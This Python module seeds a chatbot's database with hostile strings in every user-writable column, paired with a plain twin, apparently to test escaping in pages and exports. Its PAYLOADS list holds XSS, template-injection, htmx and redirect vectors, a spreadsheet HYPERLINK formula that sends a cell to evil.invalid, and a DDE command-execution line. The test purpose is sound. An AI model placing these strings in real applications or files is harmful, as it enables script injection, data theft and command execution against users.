"""A database in which every text that somebody can write is hostile, and its twin in which the same texts are plain.

The rows are made from the models themselves, so a new table or column is hostile from the day it is added. What can't
be free text stands in `CODES`, with the reason.
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from datetime import date
from typing import Any, Final

from sqlalchemy import JSON, Boolean, CheckConstraint, Column, Date, Float, Integer, String, Table, select
from sqlalchemy.ext.asyncio import AsyncSession

from bot.clock import utc_now
from bot.content import load_shapes
from bot.db import models
from bot.db.base import Base, UtcDateTime
from bot.db.terms import Terms
from bot.messages import VARIETIES
from bot.spelling import list_terms

#: What each hostile text tries; one that does not fit into a column gives way to `SHORT`.
PAYLOADS: Final = (
    "<script>window.__hit='script'</script>",
    "\"'><img src=/hit onerror=window.__hit='img'>",
    "<svg/onload=window.__hit='svg'><a xlink:href='javascript:window.__hit=1'>x</a></svg>",
    "javascript:window.__hit='url'//",
    "data:text/html,<script>parent.__hit='data'</script>",
    "\" autofocus onfocus=window.__hit='focus' style=\"position:fixed;inset:0",
    "' hx-get='/console/sign-out' hx-trigger='load' hx-on:load='window.__hit=1",
    "{{7*7}}{% for x in () %}{% endfor %}${7*7}#{7*7}<%= 7*7 %>",
    '=HYPERLINK("//evil.invalid/?"&A1;"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "&lt;script&gt;window.__hit='entity'&lt;/script&gt;&#60;img src=/hit onerror=window.__hit=2&#62;",
    "\u202egpj.exe\u202c\u200b\u200d\ufeff\u2067\u0301\u0301 \U000e0001",
    "W" * 400,
    "</title></textarea></style></script><iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
    "<form action=//evil.invalid><button formaction=javascript:window.__hit=1>x</button></form>"
    "<base href=//evil.invalid>",
    "]]>--><style>*{background:url(//evil.invalid/hit)}</style><link rel=stylesheet href=//evil.invalid>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid'><object data=javascript:window.__hit=1></object>",
)
SHORT: Final = ("<img/src/onerror=__hit=1>", "<b onclick=1>", "'\"><i>", "<i>", "<")
#: So many rows of each shape: one a payload, and one with all of them at once.
ROWS: Final = len(PAYLOADS) + 1
#: The ids of rows made here begin with this one, above those of rows that came through the real doors.
FIRST: Final = 1_000
#: The rows of another shape of the same table are so many ids further.
SHAPE_STEP: Final = 100
#: Who looks: the first of the members, an administrator.
MEMBER_ID: Final = FIRST
_ANSWERS: Final = sorted(load_shapes())
_BY_SYSTEM = "made by the app, never taken from a message"
_CHECKED = "codes of a fixed list, checked by bot/db/seed/checks.py for files and forms alike"
_HASH = "a hash or a random secret"

#: What is no free text, with the reason; a function gets the number of the row.
CODES: Final[dict[str, tuple[Any, str]]] = {
    "contacts.variety": ("fr", "a code of bot.messages.VARIETIES"),
    "contacts.chosen_variety": (None, "a code of bot.messages.VARIETIES"),
    "contacts.erasure_reference": (None, _BY_SYSTEM),
    "contacts.erased_at": (None, "an erased person has nothing left to show"),
    "contacts.held_by_id": (MEMBER_ID, "a number"),
    "contacts.last_message_id": (lambda n: FIRST + n, "a number"),
    "contacts.last_inbound_id": (lambda n: FIRST + n, "a number"),
    "identities.channel": ("web", "the name of one of our channels"),
    "identities.blocked_at": (None, "a time"),
    "messages.channel": ("web", "the name of one of our channels"),
    "messages.variety": (lambda n: VARIETIES[n % len(VARIETIES)], "a code that our own language model gives"),
    "messages.next_attempt_at": (None, "a time"),
    "message_terms.words": (None, "an index, made of normal forms; nothing reads it back"),
    "subscriptions.topic": (lambda n: ("cohorts", "events", "publications")[n % 3], "one of three codes"),
    "drafts.journey": ("preregistration", "the name of a module of bot/journeys"),
    "drafts.asking": ("full_name", "a field of that journey"),
    "drafts.returns_to_id": (None, "a number"),
    "applications.reference": (lambda n: f"JIT-{n:06}", _BY_SYSTEM),
    "applications.phone": (lambda n: f"+2126120{n:05}", "a number in E.164, read by phonenumbers"),
    "registrations.reference": (lambda n: f"EVT-{n:06}", _BY_SYSTEM),
    "staff_requests.reference": (lambda n: f"MNC-{n:06}", _BY_SYSTEM),
    "erasures.reference": (lambda n: f"DEL-{n:06}", _BY_SYSTEM),
    "erasures.counts": ({"messages": 2, "applications": 1, "requests": 1}, "counted by the app"),
    "staff_requests.kind": (
        lambda n: ("human", "support", "membership", "employer", "operator", "event_proposal")[n % 6],
        "a code of the journey",
    ),
    "staff_requests.outcome": (None, "a code that the console has words for"),
    "staff_requests.closed_at": (None, "a time"),
    "access_codes.purpose": ("link", "one of two codes"),
    "access_codes.secret_hash": (lambda n: f"{n:064}", _HASH),
    "announcements.topic": ("events", "one of three codes"),
    "announcements.slug": (lambda n: f"hostile-{n}", "the slug of a row"),
    "notices.answer": ({"key": "utter_greet", "data": {}}, "a key of answers.yml and the data of our own code"),
    "notices.subject": (lambda n: f"event:hostile-{n}", _BY_SYSTEM),
    "notices.state": ("dropped", "a state"),
    "ratings.value": ("down", "a state"),
    "answer_texts.key": (lambda n: _ANSWERS[n], "a key of answers.yml"),
    "answer_texts.variety": ("fr", "a code of bot.messages.VARIETIES"),
    "content_revisions.kind": ("answers", "the name of a table"),
    "content_revisions.key": (lambda n: f"{_ANSWERS[n]}/fr", "a key of answers.yml"),
    "content_revisions.restored_id": (None, "a number"),
    "staff_members.role": (lambda n: "administrator" if n == 0 else "adviser", "one of four roles"),
    "staff_members.language": ("fr", "one of three languages"),
    "staff_members.password_hash": (_HASH, _HASH),
    "staff_policy.second_factor_roles": ([], "some of four roles"),
    "staff_sessions.enrol_by": (None, "a time"),
    "staff_members.recovery_hashes": ([], _HASH),
    "staff_members.totp_secret": (None, _HASH),
    "staff_members.totp_last_step": (None, "a number"),
    "staff_members.disabled_at": (None, "a time"),
    "staff_sessions.token_hash": (lambda n: f"{n:064}", _HASH),
    "staff_sessions.csrf_token": (lambda n: f"{n:064}", _HASH),
    "staff_sessions.totp_offer": (None, _HASH),
    "staff_sessions.member_id": (MEMBER_ID, "whoever looks sees their own"),
    "staff_invitations.token_hash": (lambda n: f"{n:064}", _HASH),
    "login_attempts.account_hash": (lambda n: f"{n:064}", _HASH),
    "audit_entries.action": ("signed_in", "a key of the console's words"),
    "canned_answers.staff_id": (MEMBER_ID, "everybody sees their own"),
    "campaigns.segment": ({}, "codes that bot.campaigns.segments reads"),
    "campaigns.fallbacks": ({}, "codes of bot.messages.VARIETIES"),
    "campaign_recipients.outcome": (None, "a code that the console has words for"),
    "campaign_recipients.channel": ("web", "the name of one of our channels"),
    "campaign_recipients.variety": ("fr", "a code of bot.messages.VARIETIES"),
    "channel_pauses.channel": (lambda n: f"channel-{n}", "the name of one of our channels"),
    "candidate_groups.key": (lambda n: f"{n:048}", _HASH),
    "candidate_groups.state": (lambda n: ("open", "second", "disputed", "agreed", "exported")[n % 5], "a state"),
    "candidate_groups.agreed_id": (lambda n: FIRST + n if n % 5 > 2 else None, "a number"),
    "candidate_groups.exported_at": (None, "a time"),
    "candidate_groups.exported_file": ("conversation.fr.yml", _BY_SYSTEM),
    "candidates.reasons": (["thumb_down"], "names of bot.annotation.reasons.WEIGHTS"),
    "candidates.marks": ([], "places in the text and names of entities, checked"),
    "annotations.marks": ([], "places in the text and names of entities, checked"),
    "annotations.intent": ("greet", "one of the intents of domain.yml, checked"),
    "annotations.variety": ("fr", "a code of bot.messages.VARIETIES"),
    "model_versions.digest": (lambda n: f"{n:016x}", _HASH),
    "model_versions.frame": (lambda n: f"{n:016x}", _HASH),
    "model_versions.examples": ({"fr": 3}, "counted by the app"),
    "model_versions.figures": (None, "counted by nlu.evaluate"),
    "model_switches.state": ("failed", "a state"),
    "model_jobs.state": ("failed", "a state"),
    "model_jobs.stage": ("beginning", "a key of the console's words"),
    "model_jobs.error": ("unexpected", "a key of the console's words"),
    "model_jobs.result": (None, "counted by the app"),
    "model_servers.digest": (lambda n: f"{n:016x}", _HASH),
    "model_servers.frame": (lambda n: f"{n:016x}", _HASH),
    "replayed_messages.change": ("topic", "one of two codes"),
    "report_mails.month": (lambda n: f"20{n:02}-01", "a month, checked"),
    "disclosures.who": (lambda n: f"{n:064}", _HASH),
    "interactions.shown": ([], "codes and slugs that our own actions found"),
    "figure_days.counts": ({}, "counted by the app"),
    "figure_months.counts": ({}, "counted by the app"),
    "figure_months.daily": ({}, "counted by the app"),
    "events.usual_month": (5, "a number"),
    "events.is_registered_here": (True, "whether one registers here"),
    "events.registration_closed_at": (None, "a time"),
    "cohorts.starts_on": ("2026-10", "a date, checked"),
    "cohorts.ends_on": ("2027-03", "a date, checked"),
    "events.last_starts_on": ("2026-05", "a date, checked"),
    "events.last_ends_on": ("2026-05", "a date, checked"),
    "facts.as_of": ("2026-05", "a date, checked"),
    "publications.published_on": ("2026-05-01", "a date, checked"),
    "cohorts.enrolment": ("open", _CHECKED),
    "cohorts.fact_slug": ("jit-001", _CHECKED),
    "facts.topic": ("jobintech", _CHECKED),
    "facts.confidence": ("high", _CHECKED),
    "programmes.kind": ("incubator", _CHECKED),
    "programmes.status": ("running", _CHECKED),
    "events.status": ("confirmed", _CHECKED),
    "eligibility_rules.verdict": ("fits", _CHECKED),
    "eligibility_rules.conditions": ({"diploma": ["bac+3"]}, _CHECKED),
    "alternatives.conditions": ({"diploma": ["bac+3"]}, _CHECKED),
    "programmes.city_slugs": (["rabat"], _CHECKED),
    "alternatives.city_slugs": (["rabat"], _CHECKED),
    "programmes.stages": (["idea"], _CHECKED),
    "programmes.sectors": ([], _CHECKED),
    "programmes.offers": (["mentoring"], _CHECKED),
    "events.topics": (["startups"], _CHECKED),
    "publications.topics": (["startups"], _CHECKED),
}
for _table in Base.metadata.tables.values():
    for _name in ("slug", "fact_slugs", "seed_hash", "retired_at"):
        if _name in _table.columns and f"{_table.name}.{_name}" not in CODES:
            _value = {"slug": lambda n: f"hostile-{n}", "fact_slugs": ["jit-001"]}.get(_name)
            CODES[f"{_table.name}.{_name}"] = (_value, "a stable name, checked" if "slug" in _name else _HASH)

#: Rows of another shape than the first one: by table, what is different in each.
SHAPES: Final[dict[str, tuple[Mapping[str, Any], ...]]] = {
    "messages": (
        {"direction": "in", "state": "answered", "reply_to_id": None, "staff_id": None, "rest": None},
        {"direction": "out", "state": "failed", "staff_id": lambda n: FIRST + n, "attachments": [], "buttons": True},
    ),
    "applications": ({"state": "received"},),
    "drafts": ({"state": "paused"},),
    "registrations": ({"state": "registered"},),
    "content_revisions": ({}, {"kind": "events", "key": lambda n: f"hostile-{n}"}),
}
#: Tables whose one row is made at the start, and what the app counts by itself.
_LEFT = frozenset({"content_state", "staff_policy", "gathering", "figure_days", "figure_months"})


def list_columns() -> list[Column[Any]]:
    """Every column that holds text, JSON included."""
    return [
        column
        for table in Base.metadata.sorted_tables
        for column in table.columns
        if isinstance(column.type, String | JSON | Terms) and not column.foreign_keys
    ]


def is_code(column: Column[Any]) -> bool:
    """Whether a text column holds codes: it says so in `CODES`, or a check constraint lists what it may hold."""
    return f"{column.table.name}.{column.name}" in CODES or _read_choices(column) is not None


def _read_choices(column: Column[Any]) -> str | None:
    """The first of the values that a check constraint of the table allows."""
    for constraint in column.table.constraints:
        if isinstance(constraint, CheckConstraint):
            found = re.search(rf"\b{column.name} IN \('([^']*)'", str(constraint.sqltext))
            if found:
                return found[1]
    return None


class Writer:
    """What is written where a person can write: hostile, or the plain twin of the same length.

    Attributes:
        is_hostile: which of both.
        written: each text with the column that it went to.
    """

    def __init__(self, *, is_hostile: bool) -> None:
        self.is_hostile = is_hostile
        self.written: dict[str, str] = {}
        self._numbers: dict[str, int] = {}

    def text(self, place: str, n: int, limit: int = 4_000) -> str:
        """The n-th hostile text for a place, with a mark that no other text has; at most `limit` characters."""
        number = self._numbers.setdefault(place, len(self._numbers))
        mark = f" q{n}x{number}z"
        choices = [PAYLOADS[n] if n < len(PAYLOADS) else " ".join(PAYLOADS), *PAYLOADS[:n:-1], *SHORT]
        payload = next((each for each in choices if len(each) + len(mark) <= limit), "")
        if payload.startswith("W"):
            mark = mark[1:]
        text = (payload + mark)[:limit]
        if not self.is_hostile:
            text = ("n" * len(payload) + mark)[:limit]
        if place == "staff_members.email":
            text = text.lower()
        self.written[text] = place
        return text


async def fill(session: AsyncSession, writer: Writer) -> None:
    """Write `ROWS` rows into each table (of each of `SHAPES`): the n-th with the n-th payload, the last with all."""
    by_table = {mapper.local_table.name: mapper.class_ for mapper in Base.registry.mappers}
    for table in Base.metadata.sorted_tables:
        if table.name in _LEFT or table.name == "message_terms":
            continue
        for shape_number, shape in enumerate(SHAPES.get(table.name, ({},))):
            for n in range(ROWS):
                values = {
                    column.name: make_value(writer, table, column, n, shape_number, shape) for column in table.columns
                }
                session.add(by_table[table.name](**values))
        await session.flush()
    await _index_messages(session)


async def _index_messages(session: AsyncSession) -> None:
    """What the search finds the messages by."""
    for message in await session.scalars(select(models.Message).where(models.Message.id >= FIRST)):
        terms = " ".join(list_terms(message.text))
        if terms:
            session.add(models.MessageTerms(message_id=message.id, words=terms))
    await session.flush()


def make_value(
    writer: Writer, table: Table, column: Column[Any], n: int, shape_number: int, shape: Mapping[str, Any]
) -> Any:
    place = f"{table.name}.{column.name}"
    row_id = FIRST + SHAPE_STEP * shape_number + n
    if shape.get(column.name, True) is not True:
        given = shape[column.name]
        return given(n) if callable(given) else given
    if column.name in shape and shape[column.name] is None:
        return None
    if place in CODES:
        given = CODES[place][0]
        return given(n) if callable(given) else given
    if column.foreign_keys:
        target = next(iter(column.foreign_keys)).column
        return f"hostile-{n}" if target.name == "slug" else FIRST + n
    if column.primary_key and isinstance(column.type, Integer):
        return row_id
    kind = column.type
    if isinstance(kind, UtcDateTime):
        return utc_now() if not column.nullable or column.name not in ("unsubscribed_at", "expires_at") else None
    if isinstance(kind, Date):
        return date(2027, 5, 4)
    if isinstance(kind, Boolean):
        return False
    if isinstance(kind, Integer):
        return 1
    if isinstance(kind, Float):
        return 0.5
    if isinstance(kind, JSON):
        return _make_json(writer, place, n, column)
    choice = _read_choices(column)
    if choice is not None:
        return choice
    assert isinstance(kind, String), f"{place}: say in hostile.py what a value of {kind!r} is"
    return writer.text(place, n, kind.length or 4_000)


def _make_json(writer: Writer, place: str, n: int, column: Column[Any]) -> Any:
    """A document with hostile text wherever one has text: in the shapes that pages know, else in a plain one."""

    def text(part: str) -> str:
        return writer.text(f"{place}.{part}", n)

    match place:
        case "identities.profile":
            return {"name": text("name"), "username": text("username"), "language": text("language")}
        case "messages.attachments":
            named = {"kind": "document", "file_name": text("file"), "media_type": text("type"), "phone": text("phone")}
            return [named, {"kind": text("kind"), "latitude": text("latitude"), "longitude": text("longitude")}]
        case "messages.buttons":
            return [{"title": text("title"), "payload": "/greet"}, {"title": text("link"), "url": text("url")}]
        case "messages.rest":
            return {"text": text("text"), "sources": [text("source")], "buttons": []}
        case "messages.ranking":
            return [{"intent": text("intent"), "confidence": 0.5}]
        case "messages.entities" | "interactions.entities":
            return [{"entity": text("entity"), "value": text("value"), "text": text("text"), "start": 0, "end": 3}]
        case "messages.timings":
            return {text("step"): 1.5}
        case "audit_entries.details":
            return {text("name"): 1}
        case "staff_requests.details":
            fields = ("full_name", "name", "organisation", "phone", "email", "need", "message", "city")
            return {field: text(field) for field in fields} | {text("field"): text("value")}
        case "subscriptions.wishes":
            return [{"city": text("city")}, {"track": text("track")}]
        case "content_revisions.before" | "content_revisions.after":
            return {"text": text("text"), "name": text("name")}
        case "drafts.answers":
            return {"full_name": text("full_name"), "email": text("email")}
    if _is_list(column):
        return [text("item")]
    kept: dict[str, Any] = {variety: text(variety) for variety in VARIETIES}
    return kept


def _is_list(column: Column[Any]) -> bool:
    """Whether a JSON column is annotated as a list; both have the same type in the database."""
    model = next(each.class_ for each in Base.registry.mappers if each.local_table is column.table)
    annotations = (vars(each).get("__annotations__", {}).get(column.name, "") for each in model.__mro__)
    return any("list[" in str(annotation) for annotation in annotations)
